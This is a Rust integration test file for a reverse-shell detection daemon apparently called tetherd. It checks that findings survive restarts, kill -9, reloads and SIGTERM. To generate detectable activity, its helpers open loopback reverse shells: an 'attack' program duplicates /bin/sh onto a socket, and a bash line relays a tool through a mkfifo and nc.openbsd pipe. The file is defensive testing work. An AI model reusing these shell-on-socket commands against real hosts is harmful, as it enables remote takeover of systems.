//! The daemon's life: start, restart, reload, stop, and being refused.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    reason = "a test's helpers may fail the test wherever they are"
)]

mod common;

use std::collections::BTreeMap;
use std::net::TcpStream;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::Instant;

use common::attacker::{Listener, Session};
use common::daemon::{Daemon, Place, copy_program};
use common::finding::{CATEGORY, Finding};
use common::programs::program;
use common::victim::Victim;
use common::{nap, wait_for};
use nix::sys::signal::Signal;
use tetherd::model::clock::Moment;
use tetherd::model::detection::State;
use tetherd::model::finding::CATEGORY_LOSS;
use tetherd::spool::record::observation;
use tetherd::spool::settings::SpoolSettings;
use tetherd::spool::writer::Writer;

/// A shell on a socket, and its attacker.
fn shell() -> (Session, Victim, u16) {
    let attacker = Listener::tcp();
    let port = attacker.port();
    let victim = Victim::start(program("attack"), &["dup", "127.0.0.1", &port.to_string(), "012", "/bin/sh"]);
    let mut session = attacker.accept();
    session.shell_pid();
    (session, victim, port)
}

fn about(port: u16) -> impl Fn(&Finding) -> bool {
    move |record| record.peer_port() == Some(port) && record.category() == CATEGORY
}

/// A tether that lives through the daemon's end keeps its finding's name, its count and its history.
fn keeps_its_name(end: fn(Daemon)) {
    let place = Place::new("");
    let daemon = Daemon::start_in(&place);
    let (mut session, mut victim, port) = shell();
    let (before, after) = (nap(), nap());
    session.run(&format!("/bin/sleep {before}"));
    let first = daemon.wait_for("the command before", |r| about(port)(r) && r.ran(&["/bin/sleep", &before]));
    end(daemon);

    let daemon = Daemon::start_in(&place);
    daemon.judged();
    session.run(&format!("/bin/sleep {after}"));
    let second = daemon.wait_for("the command after", |r| about(port)(r) && r.ran(&["/bin/sleep", &after]));
    assert_eq!(second.id(), first.id(), "the same live tether keeps its name");
    assert!(second.number("Sequence") > first.number("Sequence"));
    assert!(second.count() > first.count(), "{} then {}", first.brief(), second.brief());
    assert!(second.ran(&["/bin/sleep", &before]), "what ran before is still there: {}", second.brief());
    let shells = second.processes().iter().filter(|p| p["args"][0] == "/bin/sh").count();
    assert_eq!(shells, 1, "the shell is listed once: {}", second.brief());

    // Once more: what came from the spool once has to go back to it as it was.
    end(daemon);
    let daemon = Daemon::start_in(&place);
    daemon.judged();
    let at_last = nap();
    session.run(&format!("/bin/sleep {at_last}"));
    let third =
        daemon.wait_for("the command at last", |r| about(port)(r) && r.ran(&["/bin/sleep", &at_last]));
    assert_eq!(third.id(), first.id());
    let shells = third.processes().iter().filter(|p| p["args"][0] == "/bin/sh").count();
    assert_eq!((shells, third.count()), (1, second.count() + 1), "{}", third.brief());
    let line = |finding: &Finding| finding.property("Timeline").as_array().unwrap().clone();
    let (early, late) = (line(&second), line(&third));
    assert_eq!(late[..early.len()], early, "entries keep their time and start ticks");
    assert!(
        late.iter().all(|entry| entry["time"].is_string() && entry["startTicks"].is_string()),
        "{late:?}"
    );

    session.exit();
    victim.wait();
    daemon.wait_for("the end", |r| r.id() == first.id() && r.state() == "INACTIVE");
    let others = place.findings().into_iter().filter(about(port)).count();
    assert_eq!(others, 1, "one tether, one name");
    daemon.stop();
}

#[test]
fn a_tether_keeps_its_name_over_a_restart() {
    require!("gcc");
    keeps_its_name(Daemon::stop);
}

#[test]
fn a_tether_keeps_its_name_over_kill_9() {
    require!("gcc");
    keeps_its_name(Daemon::kill);
}

/// The shell ended while no daemon ran: the next one says so.
#[test]
fn a_tether_that_ended_meanwhile_is_closed() {
    require!("gcc");
    let place = Place::new("");
    let daemon = Daemon::start_in(&place);
    let (session, mut victim, port) = shell();
    let first = daemon.wait_for("the shell", about(port));
    daemon.kill();
    session.exit();
    victim.wait();
    let daemon = Daemon::start_in(&place);
    daemon.wait_for("the end", |r| r.id() == first.id() && r.state() == "INACTIVE");
    daemon.stop();
}

/// The time in which nobody listened is told: exactly after an orderly end, else by the last note.
#[test]
fn a_restart_says_how_long_nobody_listened() {
    require!();
    let place = Place::new("");
    let daemon = Daemon::start_in(&place);
    assert_eq!(daemon.lost("not_listening"), 0, "nobody listened before");
    daemon.stop();
    let gap = |daemon: &Daemon, said: &str| {
        assert_eq!(daemon.lost("not_listening"), 1);
        let record = daemon.wait_for("the record of the gap", |r| {
            r.category() == CATEGORY_LOSS && r.0["finding"]["description"].as_str().unwrap().contains(said)
        });
        assert_eq!(record.property("Losses")["not_listening"], 1);
        let (from, to) = (record.text("Unheard_From"), record.text("Unheard_To"));
        assert!(from < to, "{from} {to}");
        (from.to_owned(), to.to_owned())
    };
    let daemon = Daemon::start_in(&place);
    let first = gap(&daemon, "nobody listened for ");
    assert!(!daemon.said().contains("at most"), "{}", daemon.said());
    daemon.kill();
    let daemon = Daemon::start_in(&place);
    let second = gap(&daemon, "nobody listened for at most ");
    assert!(first.1 <= second.0, "{first:?} {second:?}");
    daemon.stop();
}

#[test]
fn a_second_instance_is_refused() {
    require!("gcc");
    let daemon = Daemon::start("");
    let second = daemon.place().command().output().unwrap();
    let said = String::from_utf8_lossy(&second.stderr);
    assert_eq!(second.status.code(), Some(75), "{said}");
    assert!(said.contains(&daemon.pid().to_string()), "it names the holder: {said}");
    assert_eq!(said.lines().filter(|line| !line.is_empty()).count(), 1, "one sentence: {said}");
    // The first one is none the worse for it.
    daemon.judged();
    daemon.stop();
}

#[test]
fn without_privileges_it_says_what_is_missing() {
    require!("setpriv");
    let directory = tempfile::tempdir().unwrap();
    std::fs::set_permissions(directory.path(), PermissionsExt::from_mode(0o777)).unwrap();
    let tetherd = directory.path().join("tetherd");
    copy_program(&tetherd);
    let config = directory.path().join("tetherd.toml");
    std::fs::write(&config, "[syslog]\nenabled = false\n").unwrap();
    std::fs::set_permissions(&config, PermissionsExt::from_mode(0o644)).unwrap();
    let output = Command::new("setpriv")
        .args(["--reuid", "65534", "--regid", "65534", "--clear-groups", "--bounding-set=-all", "--"])
        .arg(&tetherd)
        .args(["run", "--spool"])
        .arg(directory.path().join("spool"))
        .arg("--config")
        .arg(&config)
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let said = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(77), "{said}");
    assert!(said.contains("CAP_") || said.contains("root"), "it says what is missing: {said}");
    assert_eq!(said.lines().filter(|line| !line.is_empty()).count(), 1, "one sentence: {said}");
}

#[test]
fn a_reload_takes_effect_and_a_bad_one_does_not() {
    require!("gcc");
    let daemon = Daemon::start("");
    let severity = || {
        let (session, mut victim, port) = shell();
        let found = daemon.wait_for("a shell", about(port));
        session.exit();
        victim.wait();
        found.severity().to_owned()
    };
    assert_eq!(severity(), "HIGH", "loopback lowers");

    daemon.place().configure("[incident]\nloopback_lowers = \"perhaps\"\n");
    daemon.signal(Signal::SIGHUP);
    wait_for("the daemon says what is wrong", || daemon.said().contains("loopback_lowers").then_some(()));
    assert_eq!(severity(), "HIGH", "the old configuration stays");

    daemon.place().configure("[incident]\nloopback_lowers = false\n");
    let before = daemon.said().len();
    daemon.signal(Signal::SIGHUP);
    wait_for("the daemon says that it has reloaded", || {
        daemon.said()[before..].contains("reload").then_some(())
    });
    assert_eq!(severity(), "CRITICAL", "the new configuration is in force");

    std::fs::write(daemon.place().path("rules.d/10-bad.toml"), "this is no rule\n").unwrap();
    daemon.signal(Signal::SIGHUP);
    wait_for("the daemon names the bad file", || daemon.said().contains("10-bad.toml").then_some(()));
    assert_eq!(severity(), "CRITICAL", "the configuration before stays as a whole");
    daemon.stop();
}

/// Names that are watched since a reload are watched by every thread: here by the one that judges who is on a pipe.
#[test]
fn a_reload_watches_other_names_on_relays_too() {
    require!("bash", "nc.openbsd");
    let daemon = Daemon::start("");
    let tool = format!("frob{}", nap());
    let program = daemon.place().path(&tool);
    std::fs::copy("/bin/cat", &program).unwrap();
    let relay = |attacker: &Listener| {
        let text = format!(
            "cd {}; rm -f f; mkfifo f; {} <f | nc.openbsd 127.0.0.1 {} >f",
            daemon.place().path("").display(),
            program.display(),
            attacker.port()
        );
        let victim = Victim::start("bash", &["-c", &text]);
        let mut session = attacker.accept();
        session.send("an echo\n");
        session.hear("an echo\n");
        (session, victim)
    };
    let before = Listener::tcp();
    drop(relay(&before));
    daemon.judged();
    assert!(!daemon.records().iter().any(about(before.port())), "nothing is known of {tool}");

    daemon.place().configure(&format!("[watch]\ncommands = [\"{tool}\"]\n"));
    daemon.signal(Signal::SIGHUP);
    wait_for("the reload", || (daemon.count("reloads") == 1).then_some(()));
    let after = Listener::tcp();
    let (_session, _victim) = relay(&after);
    let found = daemon.wait_for("a watched command on a relay", about(after.port()));
    assert_eq!(found.row(), 5, "{}", found.brief());
    assert!(found.mentions(&tool), "{}", found.brief());
}

/// Everything that was executed before SIGTERM is in the spool when the daemon has ended.
#[test]
fn sigterm_loses_nothing() {
    require!("gcc");
    const SHELLS: usize = 50;
    let daemon = Daemon::start("");
    let place = daemon.place().clone();
    let attacker = Listener::tcp();
    let shells: Vec<(Victim, u16)> = (0..SHELLS)
        .map(|_| {
            let stream = TcpStream::connect(("127.0.0.1", attacker.port())).unwrap();
            let own = stream.local_addr().unwrap().port();
            // It waits for a line: none ends before it can be seen.
            (Victim::on_socket(&stream, "/bin/sh", &["-c", "read line"]), own)
        })
        .collect();
    // The last exec is over when the shell waits for its line.
    let last = shells.last().unwrap().0.pid();
    wait_for("the last shell waits", || waits(last).then_some(()));
    daemon.stop();
    let findings = place.findings();
    let found = |port: u16| findings.iter().any(|f| f.own_port() == Some(port));
    let missing = shells.iter().filter(|(_, port)| !found(*port)).count();
    assert_eq!(missing, 0, "of {SHELLS} shells that were there before SIGTERM");
}

/// The flood goes on while the daemon ends. What ran before SIGTERM is in its spool, and the next daemon finds the rest:
/// each shell once.
#[test]
fn sigterm_in_a_flood_loses_nothing() {
    require!("gcc");
    const BEFORE: usize = 100;
    const AFTER: usize = 20;
    let place = Place::new("");
    let daemon = Daemon::start_in(&place);
    let attacker = Listener::tcp();
    let start = || {
        let stream = TcpStream::connect(("127.0.0.1", attacker.port())).unwrap();
        let own = stream.local_addr().unwrap().port();
        (Victim::on_socket(&stream, "/bin/sh", &["-c", "read line"]), own)
    };
    let mut shells: Vec<(Victim, u16)> = (0..BEFORE).map(|_| start()).collect();
    // The last exec is over when the shell waits for its line.
    let last = shells.last().unwrap().0.pid();
    wait_for("the last shell waits", || waits(last).then_some(()));
    daemon.signal(Signal::SIGTERM);
    shells.extend((0..AFTER).map(|_| start()));
    daemon.stop();
    let found = |ports: &[(Victim, u16)]| {
        let findings = place.findings();
        // Another test's connection may have the same port of its own.
        let ours = about(attacker.port());
        let of = |port: u16| findings.iter().filter(|f| ours(f) && f.own_port() == Some(port)).count();
        ports.iter().map(|(_, port)| of(*port)).collect::<Vec<_>>()
    };
    assert_eq!(found(&shells[..BEFORE]), [1; BEFORE], "each shell from before SIGTERM, once");

    let daemon = Daemon::start_in(&place);
    wait_for("the next daemon has found all", || found(&shells).iter().all(|n| *n > 0).then_some(()));
    assert_eq!(found(&shells), [1; BEFORE + AFTER]);
    daemon.stop();
    let numbers: Vec<u64> = place.records().iter().map(|record| record.number("Sequence")).collect();
    assert!(numbers.iter().copied().eq(1..=numbers.len() as u64), "no number is missing: {numbers:?}");
}

/// Whether a process sleeps.
fn waits(pid: u32) -> bool {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
    stat.rsplit(')').next().is_some_and(|rest| rest.starts_with(" S"))
}

/// A start does not read a spool that is full, also not after kill -9: it would be blind for seconds.
#[test]
fn a_full_spool_does_not_delay_the_start() {
    const SPOOL_BYTES: u64 = 210 << 20;
    const READ_MAX: u64 = 8 << 20;
    require!("gcc");
    let place = Place::new("");
    let daemon = Daemon::start_in(&place);
    let (mut session, victim, port) = shell();
    let first = daemon.wait_for("the shell", about(port));
    daemon.kill();
    fill(&place.spool(), SPOOL_BYTES);

    let begin = Instant::now();
    let daemon = Daemon::start_in(&place);
    let ready = begin.elapsed();
    let io = std::fs::read_to_string(format!("/proc/{}/io", daemon.pid())).unwrap();
    let read = io.lines().find_map(|line| line.strip_prefix("rchar: ")).unwrap().parse::<u64>().unwrap();
    eprintln!("ready after {ready:?}, {read} bytes read");
    assert!(read < READ_MAX, "{read} bytes read before ready");
    daemon.judged();
    let word = nap();
    session.run(&format!("/bin/sleep {word}"));
    let found = daemon.wait_for("the command", |r| about(port)(r) && r.ran(&["/bin/sleep", &word]));
    assert_eq!(found.id(), first.id());
    assert!(found.count() > first.count(), "the record behind all others was found: {}", found.brief());
    drop((session, victim));
    daemon.stop();
}

/// Appends records of findings that have ended.
fn fill(spool: &Path, bytes: u64) {
    let settings =
        SpoolSettings { directory: spool.to_owned(), min_free_bytes: 0, ..SpoolSettings::default() };
    let (mut writer, _) = Writer::open(settings, "another boot").unwrap();
    let filler = BTreeMap::from([("Filler".to_owned(), "x".repeat(3_500).into())]);
    while writer.usage().bytes < bytes {
        let record = |_| {
            let mut record =
                observation(CATEGORY, "a test", filler.clone(), Moment::default(), "another boot");
            record.finding.state = State::Inactive;
            record
        };
        writer.append(&mut (0..1000).map(record).collect::<Vec<_>>()).unwrap();
    }
}
